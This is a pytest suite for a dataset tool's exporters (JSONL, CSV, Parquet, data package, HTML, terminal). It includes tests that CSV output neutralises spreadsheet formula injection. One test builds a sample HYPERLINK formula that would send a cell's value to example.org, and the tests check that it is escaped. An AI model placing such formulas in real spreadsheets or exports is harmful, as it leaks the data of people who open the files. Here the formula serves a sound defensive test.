"""Every export says what the dataset says: it can be read back, or keeps the schema of its
format."""

import csv
import io
import json
import re
from pathlib import Path

import pytest

import example_dataset as example
from briefing_ingest.canonical import dataset_bytes, parse_dataset
from briefing_ingest.dataset import Dataset, texts
from briefing_ingest.export import FORMATS, render_html, render_record, render_terminal
from briefing_ingest.export.folders import _cell
from briefing_ingest.export.tables import tables
from commandline import ingest

ROOT = Path(__file__).parents[2]


@pytest.fixture(scope="module", params=["example", "seeds"])
def dataset(request: pytest.FixtureRequest) -> Dataset:
    if request.param == "example":
        return example.dataset()
    return parse_dataset((ROOT / "out" / "dataset.json").read_bytes(), "seeds")


def test_jsonl_read_back_is_the_dataset(dataset: Dataset) -> None:
    parts = {
        name.removesuffix(".jsonl"): [json.loads(line) for line in content.splitlines()]
        for name, content in FORMATS["jsonl"](dataset).items()
    }
    again = Dataset.model_validate({"schema_version": dataset.schema_version, **parts})
    assert dataset_bytes(again) == dataset_bytes(dataset)


def test_csv_has_every_text_and_every_name(dataset: Dataset) -> None:
    files = FORMATS["csv"](dataset)
    rows = list(csv.DictReader(io.StringIO(files["texts.csv"].decode(), newline="")))
    said = [(work.id, text.id, text.text) for work in dataset.works for text in texts(work)]
    assert [(row["work"], row["id"], row["text"]) for row in rows] == said
    by_id = {(row["work"], row["id"]): row["text"] for row in rows}
    for row in csv.DictReader(io.StringIO(files["mentions.csv"].decode(), newline="")):
        assert (
            by_id[row["work"], row["text_id"]][int(row["start"]) : int(row["end"])] == row["name"]
        )


def test_rows_fit_their_columns_and_keys(dataset: Dataset) -> None:
    python = {"string": str, "integer": int, "boolean": bool, "date": str}
    found = {table.name: table for table in tables(dataset)}
    for table in found.values():
        for row in table.rows:
            assert len(row) == len(table.columns)
            assert all(
                v is None or type(v) is python[c.type]
                for v, c in zip(row, table.columns, strict=True)
            )
        names = [column.name for column in table.columns]
        keys = [tuple(row[names.index(key)] for key in table.keys) for row in table.rows]
        assert not table.keys or len(set(keys)) == len(keys)
        for own, other, there in table.references:
            target = [column.name for column in found[other].columns]
            known = {tuple(row[target.index(name)] for name in there) for row in found[other].rows}
            assert {tuple(row[names.index(name)] for name in own) for row in table.rows} <= known


def test_frictionless_accepts_the_data_package(dataset: Dataset, tmp_path: Path) -> None:
    frictionless = pytest.importorskip("frictionless", reason="frictionless is not installed")
    for name, content in FORMATS["datapackage"](dataset).items():
        (tmp_path / name).write_bytes(content)
    report = frictionless.Package(str(tmp_path / "datapackage.json")).validate()
    assert report.valid, report.flatten(["type", "note"])[:3]


def test_the_data_package_describes_the_files_it_comes_with(dataset: Dataset) -> None:
    files = FORMATS["datapackage"](dataset)
    resources = json.loads(files["datapackage.json"])["resources"]
    assert {resource["path"] for resource in resources} == set(files) - {"datapackage.json"}
    for resource in resources:
        head = files[resource["path"]].decode().splitlines()[0].split(",")
        assert head == [field["name"] for field in resource["schema"]["fields"]]


def test_parquet_read_back_is_the_tables(dataset: Dataset) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
    files = FORMATS["parquet"](dataset)
    for table in tables(dataset):
        read = parquet.read_table(io.BytesIO(files[f"{table.name}.parquet"]))
        assert read.column_names == [column.name for column in table.columns]
        assert [tuple(row.values()) for row in read.to_pylist()] == table.rows


def test_markdown_is_a_file_a_work(dataset: Dataset) -> None:
    files = FORMATS["markdown"](dataset)
    assert set(files) == {f"{work.id}.md" for work in dataset.works}


# --- to read --------------------------------------------------------------------------------------


def test_html_shows_text_as_text() -> None:
    work = example.post([example.paragraph("paragraph-x", "a <b> & c")])
    page = render_html(work, example.dataset())
    assert '<p id="paragraph-x">a &lt;b&gt; &amp; c</p>' in page
    assert "<h1>Why streets matter</h1>" in page


def test_html_links_notes_and_lists() -> None:
    page = render_html(example.briefing(), example.dataset())
    assert 'harm.<sup><a href="#note-1">1</a></sup>' in page
    assert '<li id="note-1" value="1">' in page
    assert "<strong>Case study 1.</strong> The shelter" in page
    post = render_html(example.post(), example.dataset())
    assert (
        '<ul>\n<li id="list-item-light">light</li>\n<li id="list-item-trust">trust</li>\n</ul>'
        in post
    )
    assert "<tr><td>Year</td><td>Cost</td></tr>" in post


def test_a_terminal_gets_lines_it_can_hold() -> None:
    text = render_terminal(example.briefing(), example.dataset(), width=40, colour=True)
    assert "\x1b[1mIntroduction\x1b[0m" in text
    assert all(
        len(re.sub(r"\x1b\[\d+m", "", line)) <= 40
        for line in text.splitlines()
        if "http" not in line
    )


def test_the_record_holds_no_offset_and_shows_a_change_on_its_line() -> None:
    before = render_record(example.dataset()).splitlines()
    blocks = example.briefing_blocks()
    blocks.insert(3, example.paragraph("paragraph-new", "One more."))
    after = render_record(example.dataset(example.briefing(blocks), example.post())).splitlines()
    assert [line for line in after if line not in before] == [
        "[paragraph-new] paragraph",
        "One more.",
    ]
    assert "  @ Kent = kent" in before


@pytest.mark.parametrize("form", FORMATS)
def test_export_writes_a_folder(tmp_path: Path, form: str) -> None:
    if form == "parquet":
        pytest.importorskip("pyarrow", reason="pyarrow is not installed")
    run = ingest("export", "--format", form, "--dataset", ROOT / "out", tmp_path / "x")
    assert (run.code, run.out) == (0, "")
    assert {file.name for file in (tmp_path / "x").iterdir()} == set(FORMATS[form](whole()))


def whole() -> Dataset:
    return parse_dataset((ROOT / "out" / "dataset.json").read_bytes(), "seeds")


@pytest.mark.parametrize(
    ("form", "start"), [("html", "<!doctype"), ("tei", "<?xml"), ("plain", ""), ("terminal", "")]
)
def test_show_takes_formats(form: str, start: str) -> None:
    run = ingest("show", whole().works[0].id, "--format", form, "--dataset", ROOT / "out")
    assert run.code == 0
    assert run.out.startswith(start)


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "- a point",
    "＝1",
    "'=1",
    "''-5x",
    "-",
    "-1,2000",
    "+44 20",
]
NUMBERS = ["-5", "+3.2", "-1,200", "-12%", "-1,234,567.89", "5", "+0"]
PLAIN = ["a=1", " =1", "'tis", "–5", "5-", "", "Leeds", "'5"]


@pytest.mark.parametrize("text", FORMULAS + NUMBERS + PLAIN)
def test_no_cell_of_a_csv_is_a_formula_and_numbers_stay_numbers(text: str) -> None:
    cell = str(_cell(text))
    assert cell == (f"'{text}" if text in FORMULAS else text)
    assert re.sub(r"\A'(?='*[=+\-@\t\r\n＝＋－＠])", "", cell) == text, "as the README says"


@pytest.mark.parametrize("form", ["csv", "datapackage"])
def test_texts_of_sources_reach_no_spreadsheet_as_formulas(form: str) -> None:
    evil = '=HYPERLINK("https://example.org/?"&A1,"more")'
    work = example.briefing(title=evil)
    last = work.blocks[-1].model_copy(update={"text": f"-2+3 {evil}"})
    work = work.model_copy(update={"title": evil, "blocks": (*work.blocks[:-1], last)})
    dataset = example.dataset().model_copy(update={"works": (work, *example.dataset().works[1:])})
    files = FORMATS[form](dataset)
    cells = [
        cell
        for name, content in files.items()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(content.decode(), newline=""))
        for cell in row
    ]
    assert f"'{evil}" in cells
    assert f"'-2+3 {evil}" in cells
    assert not [
        cell
        for cell in cells
        if cell[:1] in set("=+-@\t\r\n") and not re.fullmatch(r"[+-]?[\d.,]+%?", cell)
    ]
    assert json.dumps(evil, ensure_ascii=False) in FORMATS["jsonl"](dataset)["works.jsonl"].decode()
    if form == "datapackage":
        assert "apostrophe" in json.loads(files["datapackage.json"])["description"]


def test_parquet_has_the_exact_text() -> None:
    pyarrow = pytest.importorskip("pyarrow.parquet")
    dataset = example.dataset()
    work = dataset.works[0].model_copy(update={"title": "=1+1"})
    files = FORMATS["parquet"](dataset.model_copy(update={"works": (work, *dataset.works[1:])}))
    assert pyarrow.read_table(io.BytesIO(files["works.parquet"]))["title"][0].as_py() == "=1+1"
